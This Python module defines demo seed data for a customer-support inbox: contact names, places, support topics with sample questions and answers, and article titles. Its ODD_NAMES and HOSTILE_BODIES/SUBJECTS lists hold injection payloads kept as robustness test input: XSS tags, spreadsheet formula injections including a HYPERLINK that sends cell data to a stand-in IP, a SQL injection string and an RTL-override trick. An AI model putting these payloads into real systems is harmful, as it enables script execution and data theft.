"""Texts of the demo workspace: names, places, devices, topics and messages."""

from __future__ import annotations

from typing import NamedTuple

from intercom_nb.demo.dates import INCIDENT_MONTH

FIRST_NAMES = (
    *("Amara", "Bjorn", "Chloé", "Dmitri", "Esperanza", "Farid", "Greta", "Hiroshi", "Ingrid"),
    *("José", "Katarzyna", "Liam", "Mei", "Nadia", "Oluwaseun", "Priya", "Quentin", "Rosa"),
    *("Søren", "Tamsin", "Ulrich", "Valentina", "Wanjiru", "Xavier", "Yusuf", "Zoë", "Anaïs"),
    *("Bogdan", "Camille", "Deepak", "Eilidh", "Fatima", "Giulia", "Hamza", "Ines", "Jürgen"),
)
LAST_NAMES = (
    *("Abernathy", "Bąk", "Castellanos", "Dvořák", "Eriksen", "Fontaine", "García", "Haddad"),
    *("Ishikawa", "Jovanović", "Kowalski", "Lindqvist", "Müller", "Nakamura", "O'Brien", "Pérez"),
    *("Quigley", "Rossi", "Şahin", "Takahashi", "Umar", "Vasquez", "Weiß", "Xu", "Yılmaz"),
    *("Zhang", "Adeyemi", "Brannigan", "Contreras", "Delacroix", "Friis", "Gupta"),
)
# Names of the first contacts, hostile to tables, exports and HTML.
ODD_NAMES = (
    "<img src=x onerror=alert('name')>",
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+44 is not my name",
    "🦊 Foxglove & Daughters 🌿",
    "李小龍 (Lee)",
    "محمد عبد الله",
    "Zoë “Zed” Ångström-Ødegård",
    "\u202etxt.eman",
    "Robert'); DROP TABLE contacts;--",
    "Line\nbreak\tand tab",
    "A very long name " + "Maximilian-" * 20 + "Ende",
    "👩‍👩‍👧‍👦",
    " ",
    "NaN",
    "null",
)
PLACES = (
    ("Ireland", "Leinster", "Dublin", "IRL", "EU", "en"),
    ("United States", "New York", "New York", "USA", "NA", "en"),
    ("United States", "California", "San Francisco", "USA", "NA", "en"),
    ("United States", "Texas", "Austin", "USA", "NA", "en"),
    ("Canada", "Québec", "Montréal", "CAN", "NA", "fr"),
    ("United Kingdom", "England", "London", "GBR", "EU", "en"),
    ("Germany", "Berlin", "Berlin", "DEU", "EU", "de"),
    ("France", "Île-de-France", "Paris", "FRA", "EU", "fr"),
    ("Spain", "Catalonia", "Barcelona", "ESP", "EU", "es"),
    ("Brazil", "São Paulo", "São Paulo", "BRA", "SA", "pt"),
    ("Japan", "Tokyo", "Tokyo", "JPN", "AS", "ja"),
    ("India", "Karnataka", "Bengaluru", "IND", "AS", "en"),
    ("Australia", "Victoria", "Melbourne", "AUS", "OC", "en"),
    ("Kenya", "Nairobi", "Nairobi", "KEN", "AF", "en"),
)
BROWSERS = (
    ("chrome", "141.0.0.0"),
    ("chrome", "140.0.0.0"),
    ("safari", "26.0"),
    ("firefox", "143.0"),
    ("edge", "141.0.0.0"),
)
SYSTEMS = ("Windows", "OS X", "Linux", "iOS", "Android")
PLANS = ("free", "starter", "pro", "business", "enterprise")
INDUSTRIES = ("Software", "Retail", "Education", "Health", "Logistics", "Media", "Finance")

COMPANY_FIRST = (
    *("Copper", "Juniper", "Northwind", "Saltmarsh", "Tidewater", "Umber", "Vellum", "Willow"),
    *("Basalt", "Cobalt", "Driftwood", "Ember", "Falcon", "Glacier", "Harbour", "Ivory"),
)
COMPANY_SECOND = ("Analytics", "Bakery", "Clinics", "Freight", "Studio", "Academy", "Labs")


class Topic(NamedTuple):
    """A topic of conversations and the team that handles it."""

    name: str
    team: int
    weight: float
    subjects: tuple[str, ...]
    questions: tuple[str, ...]
    answers: tuple[str, ...]


TOPICS = (
    Topic(
        "Login and SSO",
        0,
        1.3,
        ("Locked out of my account", "SSO loop after the update", "Code never arrives"),
        (
            "<p>Hi, since this morning I can't log in. The page says my session expired.</p>",
            "<p>Our SSO sends everybody back to the login page.</p><p>Is there a setting?</p>",
            "<p>The two-factor code never arrives, I tried <b>three times</b>.</p>",
        ),
        (
            "<p>Thanks for writing in. I have reset your sessions, please try once more.</p>",
            "<p>The certificate of your identity provider ran out. Upload the new one under "
            '<a href="https://help.example.com/sso">Settings &rsaquo; Security</a>.</p>',
        ),
    ),
    Topic(
        "How do I",
        0,
        1.6,
        ("How to share a board", "Copying a template", "Where is the archive?"),
        (
            "<p>How do I share a board with somebody outside of my company?</p>",
            "<p>Can I copy a template to another workspace?</p>",
            "<p>I archived a card by mistake &amp; can't find it any more 😬</p>",
        ),
        (
            "<p>Open the board, choose <i>Share</i>, then <i>Guest link</i>.</p>",
            "<ol><li>Open the menu</li><li>Choose <b>Archive</b></li><li>Restore it</li></ol>",
        ),
    ),
    Topic(
        "Invoices",
        1,
        1.1,
        ("VAT number on invoice", "Invoice for March", "Charged twice"),
        (
            "<p>We need our VAT number on the invoice, how can we add it?</p>",
            "<p>We were charged twice this month. Please check.</p>",
            "<p>Can you send the invoices of the last quarter to our accountant?</p>",
        ),
        (
            "<p>I have added the number, the corrected invoice is attached.</p>",
            "<p>You are right, that was our mistake. I sent the second charge back.</p>",
        ),
    ),
    Topic(
        "Refunds",
        1,
        0.7,
        ("Refund please", "Cancelled but charged"),
        (
            "<p>I cancelled last week but was charged again. I would like a refund.</p>",
            "<p>Bought the wrong plan by accident, can I have my money back?</p>",
        ),
        (
            "<p>The refund is on its way and takes three to five working days.</p>",
            "<p>No problem, I changed the plan and credited the difference.</p>",
        ),
    ),
    Topic(
        "API and webhooks",
        2,
        0.9,
        ("Webhook signature mismatch", "429 from the API", "Pagination question"),
        (
            "<p>The webhook signature does not match since yesterday:</p><pre>401 bad sig</pre>",
            "<p>We get <code>429</code> at night although we are far below the limit.</p>",
            "<p>Is the cursor stable when records change while we page?</p>",
        ),
        (
            "<p>The secret was rotated; the new one is on the developer page.</p>",
            "<p>Your nightly job opens 80 connections at once. Try ten.</p>",
        ),
    ),
    Topic(
        "Slow or down",
        2,
        0.8,
        ("Boards don't load", "Everything is slow", "Is there an outage?"),
        (
            "<p>Boards take a minute to load for all of us. Is something wrong?</p>",
            "<p>We only see a white page. Our whole team is waiting!</p>",
            "<p>Is there an outage? The status page says all is fine.</p>",
        ),
        (
            "<p>We have found the cause and are rolling back, sorry for the trouble.</p>",
            "<p>This was a problem on our side. It is solved since 14:20 UTC.</p>",
        ),
    ),
    Topic(
        "Export",
        2,
        0.6,
        ("CSV export is empty", "Export all boards"),
        (
            "<p>The CSV export has only the header row.</p>",
            "<p>How can we export all boards with their attachments?</p>",
        ),
        (
            "<p>The export runs in the background, the link arrives by mail.</p>",
            "<p>That was a bug with archived boards. The fix is live.</p>",
        ),
    ),
    Topic(
        "Pricing",
        3,
        0.9,
        ("Price for 40 people", "Discount for schools?"),
        (
            "<p>What would 40 seats cost us per year?</p>",
            "<p>We are a school. Do you have a discount?</p>",
        ),
        (
            "<p>Happy to help! With 40 seats you get 15&nbsp;% off. Shall we talk tomorrow?</p>",
            "<p>Schools pay half. I need a proof, a scan is enough.</p>",
        ),
    ),
    Topic(
        "Getting started",
        4,
        0.9,
        ("Import from a spreadsheet", "Invite my team"),
        (
            "<p>We want to move 3,000 cards from a spreadsheet. Is there an import?</p>",
            "<p>How do I invite 25 people at once? 🚀</p>",
        ),
        (
            "<p>Yes: <i>Import &rsaquo; CSV</i>. I attached a template that fits.</p>",
            "<p>Paste the addresses into one box, separated by commas.</p>",
        ),
    ),
    Topic(
        "Contract and security",
        5,
        0.6,
        ("Security questionnaire", "Data processing agreement", "Renewal"),
        (
            "<p>Please find our security questionnaire attached. Could you fill it in?</p>",
            "<p>Our lawyers need a signed data processing agreement by Friday.</p>",
            "<p>Our contract ends next month. What are the terms of a renewal?</p>",
        ),
        (
            "<p>Here it is, signed. Tell me if anything is missing.</p>",
            "<p>I have put a proposal together and will call you today.</p>",
        ),
    ),
)

FOLLOW_UPS = (
    "<p>Thank you, but it still does not work for me.</p>",
    "<p>Okay, and what do I do on my phone?</p>",
    "<p>Here is a screenshot.</p>",
    "<p>Any news?</p>",
    "<p>It worked for a minute, then the same error came back 😕</p>",
    "<p>Sorry, I meant the other board.</p>",
)
THANKS = (
    "<p>That did it, thank you! 🎉</p>",
    "<p>Perfect, thanks a lot.</p>",
    "<p>Merci beaucoup&nbsp;!</p>",
    "<p>Great support, as always 💚</p>",
)
MORE_ANSWERS = (
    "<p>Could you send me the address of the page and the time when it happened?</p>",
    "<p>I see it too. Let me ask a colleague and come back to you.</p>",
    "<p>Please try it in a private window.</p>",
    "<p>This is done, please reload once.</p>",
)
AGENT_ANSWERS = (
    "<p>I found this in our help centre: open <b>Settings</b> and choose the second tab. "
    "Did that help?</p>",
    "<p>Happy to help. Here are the steps:</p><ol><li>Open the menu</li><li>Save</li></ol>",
    "<p>I can look that up. Is this about the web app or about the phone?</p>",
)
AGENT_HANDOVER = "<p>Let me bring in a colleague who can look into this.</p>"
INTERNAL_NOTES = (
    "<p>Same as the ticket from yesterday, see board 4411.</p>",
    "<p>Asked engineering, they look into it.</p>",
    "<p>Renewal is next month, please handle with care.</p>",
)
CONTACT_NOTES = (
    "<p>Met at the user conference, wants the <b>API</b> on the next plan.</p>",
    "<p>Prefers e-mail. Calls only in the afternoon.</p>",
    "<p>Champion in the evaluation; budget in Q3.</p>",
    "<p>Asked twice for a dark theme 🌙</p>",
)
# Hostile bodies, as strangers may send them to any HTML view.
HOSTILE_BODIES = (
    "<p>Hello</p><img src=x onerror=\"alert('body')\">",
    "<script>document.title='owned'</script><p>plain text after a script</p>",
    '<p><a href="javascript:alert(1)">invoice.pdf</a></p>',
    '<svg onload="alert(2)"></svg><iframe src="https://203.0.113.9/"></iframe><p>frame</p>',
    "<p>unclosed <b>bold <i>italic <style>body{display:none}</style>",
    "<p>=cmd|' /C calc'!A0</p>",
)
HOSTILE_SUBJECTS = (
    "<b onmouseover=alert(3)>Urgent</b>",
    "=1+1",
    "<script>alert('subject')</script>",
    "Re: \U0001f525 \u202e reversed",
)
REMARKS_GOOD = ("Quick and friendly!", "Solved in minutes 🙌", "Top", "Danke!")
REMARKS_BAD = ("Too slow.", "Had to explain it three times", "Still broken 😡", "No answer at all")

ARTICLE_TITLES = (
    *("Refund policy", "How we handle outages", "Escalation paths", "Tone of voice"),
    *("Rotating webhook secrets", "SSO checklist", "Discounts and who approves them"),
    *("Security questionnaire: answers", "GDPR requests", "Import problems, known causes"),
    *("Export internals", "Handover between shifts", "When to call a customer"),
    *("Billing system: what the states mean", "Two-factor resets", "Onboarding call script"),
    *("Renewals playbook", f"Incident of {INCIDENT_MONTH}", "Macros and when not to use them"),
    *("Mobile app: logs", "Guest links", "Working with the AI agent", "Public holidays"),
    *("Glossary", "Who owns what 🗺️"),
)
